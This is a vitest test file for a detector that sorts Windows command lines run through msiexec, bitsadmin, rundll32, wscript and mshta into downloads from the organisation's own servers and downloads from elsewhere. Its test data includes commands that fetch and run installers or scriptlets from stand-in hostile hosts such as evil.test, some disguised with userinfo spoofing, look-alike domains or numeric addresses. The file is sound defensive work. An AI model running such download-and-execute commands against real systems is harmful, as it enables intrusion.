import { describe, expect, test } from 'vitest'
import { readToolUse } from './read-tool-use'

function factsOf(slug: string, line: string, domain: string | null = 'corp.example') {
  return readToolUse(slug, line, `C:\\Windows\\System32\\${slug}`, { domain, name: null })?.facts
}

describe("what comes from the organisation's own servers", () => {
  test.each([
    ['msiexec.exe', 'msiexec /i https://download.corp.example/agents/a.msi /qn', ['own-url']],
    ['msiexec.exe', 'msiexec /i \\\\fs01.corp.example\\deploy\\a.msi /qn', ['own-share']],
    ['wscript.exe', 'wscript \\\\corp.example\\netlogon\\a.vbs', ['domain-share']],
    ['wscript.exe', 'wscript \\\\dc01.corp.example\\sysvol\\corp.example\\a.vbs', ['domain-share']],
    [
      'bitsadmin.exe',
      'bitsadmin /transfer a http://sccm.corp.example/a.exe C:\\a.exe',
      ['own-url', 'download'],
    ],
    [
      'rundll32.exe',
      'rundll32.exe dfshim.dll,ShOpenVerbApplication https://apps.corp.example/t/T.application',
      ['own-url'],
    ],
  ])('is told from what comes from elsewhere: %s %s', (slug, line, facts) => {
    expect(factsOf(slug, line)).toEqual(facts)
  })

  test.each([
    ['a domain that ends alike', 'msiexec /i https://evilcorp.example/a.msi', ['remote-url']],
    ['a user name that looks like it', 'msiexec /i https://corp.example@evil.test/a.msi', ['remote-url']],
    ['a longer domain', 'msiexec /i https://corp.example.evil.test/a.msi', ['remote-url']],
    ['a WebDAV port', 'msiexec /i \\\\fs01.corp.example@8080\\a\\a.msi', ['remote-url', 'unc-path']],
    ['an address', 'msiexec /i \\\\10.1.2.3\\a\\a.msi', ['unc-path', 'private-address']],
    ['its administrative shares', 'msiexec /i \\\\ws1.corp.example\\c$\\a.msi', ['own-share', 'admin-share']],
  ])('is not taken for it: %s', (_, line, facts) => {
    expect(factsOf('msiexec.exe', line)).toEqual(facts)
  })

  test.each([
    ['a name without a dot', 'msiexec /i https://app01:8443/a.msi', ['own-url']],
    ['a domain of private networks', 'msiexec /i http://cm01.nord.corp/a.msi', ['own-url']],
    ['a share in one', 'msiexec /i \\\\fs01.nord.local\\a\\a.msi', ['own-share']],
    ['the host itself', 'msiexec /i http://localhost:8080/a.msi', ['remote-url']],
    ['an address in one number', 'msiexec /i http://3405803783/a.msi', ['remote-url', 'address-host']],
    ['an address in hexadecimal', 'msiexec /i http://0xcb007107/a.msi', ['remote-url', 'address-host']],
    ['a public name', 'msiexec /i https://corp.example.net/a.msi', ['remote-url']],
  ])('are also those that no public name server knows: %s', (_, line, facts) => {
    expect(factsOf('msiexec.exe', line, null)).toEqual(facts)
  })

  test('names whichever controller of the domain answers the same', () => {
    const [first, second] = ['\\\\dc01.corp.example', '\\\\DC02'].map(
      (server) =>
        readToolUse(
          'wscript.exe',
          `wscript ${server}\\netlogon\\a.vbs`,
          'C:\\Windows\\System32\\wscript.exe',
          {
            domain: 'corp.example',
            name: null,
          },
        )?.pattern,
    )
    expect(first).toBe('wscript <unc>\\<domain>\\netlogon\\a.vbs')
    expect(second).toBe(first)
  })

  test('leaves inline script as it is, whatever address stands in it', () => {
    expect(
      factsOf('mshta.exe', 'mshta vbscript:GetObject("script:http://web.corp.example/a.sct")'),
    ).toContain('remote-url')
  })

  test('of another word changes nothing about the word beside it', () => {
    const line = 'msiexec /i https://evil.test/a.msi TRANSFORMS=https://web.corp.example/a.mst'
    expect(factsOf('msiexec.exe', line)).toContain('remote-url')
  })

  test('is not known where the host names no domain', () => {
    expect(factsOf('msiexec.exe', 'msiexec /i https://download.corp.example/a.msi', null)).toEqual([
      'remote-url',
    ])
  })
})
